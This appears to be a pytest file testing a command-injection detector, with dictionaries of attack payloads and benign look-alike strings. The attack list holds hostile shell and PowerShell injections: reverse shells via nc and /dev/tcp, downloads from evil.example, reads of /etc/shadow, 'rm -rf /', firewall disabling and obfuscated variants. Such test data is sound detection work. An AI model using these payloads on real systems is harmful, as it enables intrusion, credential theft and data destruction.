"""Unit: OS command injection by shell grammar (separator + command + shell-looking argument)."""

from __future__ import annotations

import pytest

from bastion.detection.shell import is_cmdi, normalize

ATTACKS = {
    "semicolon_cat": "; cat /etc/passwd",
    "pipe_id": "|id",
    "and_whoami": "x && whoami",
    "backticks_whole_value": "`id`",
    "dollar_substitution": "$(whoami)",
    "after_ip_address": "127.0.0.1; ls -la",
    "reverse_shell": "a|nc -e /bin/sh 10.0.0.1 4444",
    "ifs_obfuscation": ";cat${IFS}/etc/passwd",
    "quote_obfuscation": "; w'h'o'am'i",
    "windows_ping": "& ping -n 10 127.0.0.1",
    "pipe_sleep": "| sleep 5",
    "glued_backticks": "foo`uname -a`",
    "download": "1;wget http://evil.example/x.sh",
    "newline_id": "x\nid\n",
    "absolute_path_binary": "; /bin/bash -i",
    "or_curl": "|| curl evil.example",
    "echo_variable": "test; echo $PATH",
    "substitution_with_path": "$(cat /etc/shadow)",
    "windows_dir": "& dir c:\\",
    "powershell_encoded": "| powershell -enc SQBFAFgA",
    "bare_uname": ";uname",
    "brace_expansion": ";{cat,/etc/passwd}",
    "windows_net_user": "| net user",
    "shellshock_user_agent": "() { :; }; /bin/bash -c 'id'",
    "rm_rf": "a;rm -rf /",
    "wildcard_command_path": ";/???/??t /???/p??s??",
    "printf_hex_substitution": "$(printf '\\x69\\x64')",
    "cmd_caret_escapes": "& w^h^o^a^m^i",
    "powershell_invoke_webrequest": "; Invoke-WebRequest -Uri http://evil.example -Method POST",
    "powershell_start_process": "& Start-Process calc.exe",
    "powershell_subexpression": "$(Get-ChildItem env:)",
    "powershell_iex_iwr": "; iex (iwr http://evil.example/p.ps1)",
    "echo_redirected_to_file": ";echo${IFS}pwned>/tmp/x",
    "unset_variable_glued_to_words": "a;cat$u /etc$u/passwd",
    # fresh3 (2026-11-29): commands run by code, by other commands and by shell escapes
    "php_system_call_on_command": ";system('/usr/bin/id')",
    "exec_call_on_command": "exec('whoami');",
    "php_superglobal": ';{$_GET["cmd"]}',
    "php_complex_interpolation": "{${phpinfo()}}",
    "php_error_suppressed_expression": ";${@print(md5(RCEVulnerable))};",
    "php_open_tag": '<?php system("sleep 10");?>',
    "phpinfo_after_quote": "';phpinfo();//",
    "netsh_firewall": "&& netsh firewall set opmode disable",
    "reg_add_hive": '; reg add "HKLM\\System\\CurrentControlSet" /v x /t REG_DWORD /d 0 /f',
    "subshell_after_separator": "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
    "dev_tcp_redirection": "exec 5<>/dev/tcp/8.8.8.8/80",
    "shell_dash_c_in_compiler_wrapper": ";c89 -wrapper sh,-c,id .",
    "bash_dash_c": 'bash -c "echo test"',
    "editor_shell_escape": ";vim dddd +silent\\ \\!whoami +wq",
    "debugger_shell_escape": ";gdb -nx -ex \\!whoami -ex quit",
    "time_wrapper": "time curl coreruleset.org",
    "quote_split_wrapper": "ti''me curl coreruleset.org",
    "flock_wrapper": "flock -u / whoami",
    "cpulimit_wrapper": "cpulimit -l 100 -f whoami",
    "sudo_wrapper": "sudo whoami",
    "empty_positional_expansion_inside_word": ";who$@ami",
    "base64_decoded_into_shell": "printf dW5hbWUgLWE=|base64 -d|sh",
    "reversed_text_into_shell": "printf dwssap/cte/ tac | rev | sh",
    "busybox_dash_c": 'busybox -c "echo hi"',
    "strong_tool_then_glued_separator": "whoami;0'0'\"",
    "strong_tool_then_command": "whoami && id",
}

BENIGN = {
    "cartoon_and_cats": "Tom & Jerry; cat lovers",
    "ampersand_list": "A & B & more",
    "markdown_table": "| id | integer |\n|---|---|",
    "markdown_inline_code": "Run `ls -la` in the dir",
    "markdown_code_at_start": "`id` is required",
    "rock_and_roll": "rock & roll",
    "at_and_t_sleep_well": "AT&T; sleep well",
    "jquery_ready": "$(document).ready(fn)",
    "ping_me_later": "Hey; ping me later",
    "department_pipes": "R&D | sales",
    "pros_cons": "Pros; cons",
    "js_operators_prose": "Use && and || in JS",
    "fish_and_chips": "Fish & chips; type: food",
    "see_more": "Notes; see more below",
    "price_pipe": "I paid $5 | no refunds",
    "shell_snippet_pipe_head": "ls -la /var/log | head",
    "git_snippet_pipe_wc": "git log --oneline | wc -l",
    "install_script_snippet": "curl -fsSL https://get.example.com | sh",
    "markdown_code_fence": "```python\nfor i in range(3):\n    print(i)\n```",
    "markdown_fence_with_and_and": "```bash\n./configure && make && sudo make install\n```",
    "markdown_inline_code_with_pipe": 'Use `grep -r "FIXME" lib/ | wc -l` to count them.',
    "html_entities_in_product_text": "Copyright &copy; 2024 Example&trade; &amp; partners",
    "markup_after_pipe_is_not_input_redirection": 'Docs | more <span class="badge">new</span>',
    "snippet_after_prose": "would buy again git log --oneline | wc -l",
    "docker_volume_after_prose": "then export X=1 docker run -p 8080:80 -v $(pwd):/app nginx",
    "url_path_with_query_after_semicolon": "Call it; /api/items?id=1 returns 500",
    "regex_exec_method": "const re = /a/; re.exec('abc')",
    "eval_on_arithmetic": "eval('1+1')",
    "time_in_prose": "At that time curl was not installed",
    "exclamation_in_prose": "Great!Thanks",
    "curl_snippet_at_line_start": "curl -H 'Accept: application/json' https://api.example.com/v1/orders?page=2",
    "find_snippet": "find . -name '*.log' -mtime +7 -delete",
    "subprocess_call_in_code": "subprocess.run(['ls'])",
    "sudo_package_install": "sudo apt install nginx",
    "tool_name_then_prose_after_semicolon": "curl; why does it fail",
    "translate_pipe_to_pager": "cat notes.txt | tr a-z A-Z | less",
}


@pytest.mark.parametrize("payload", ATTACKS.values(), ids=ATTACKS.keys())
def test_detects_command_injection(payload: str) -> None:
    assert is_cmdi(payload) is not None


@pytest.mark.parametrize("text", BENIGN.values(), ids=BENIGN.keys())
def test_passes_benign_text_and_snippets(text: str) -> None:
    assert is_cmdi(text) is None


def test_normalize_undoes_ifs_and_quote_splitting() -> None:
    assert normalize("cat${IFS}/etc/passwd") == "cat /etc/passwd"
    assert normalize('w"h"o\\ami') == "whoami"


@pytest.mark.parametrize("unit", ["a|b", "\t\\\n", "ids|title|type&", "    ls\n", "/!^", "/a", "(\\n", "sleep+^"],
                         ids=["pipe_list", "indented_continuations", "pipe_lists_joined", "indented_block",
                              "slash_then_separator", "long_path", "paren_escaped_line_break", "tool_after_caret"])
def test_a_body_of_repeated_separators_is_read_in_linear_time(unit: str) -> None:
    """128 KiB (the waf's inspection limit) of one repeated unit: ``a|b`` took 378 s and ``\\t\\\\\\n`` ~250 s when
    every ``|`` re-read its whole list and every line re-walked its whole indented block (pytest's timeout fails
    this test if that comes back)."""
    value = (unit * (131072 // len(unit) + 1))[:131072]
    span = is_cmdi(value)
    assert span is None or 0 <= span[0] < span[1] <= len(value)
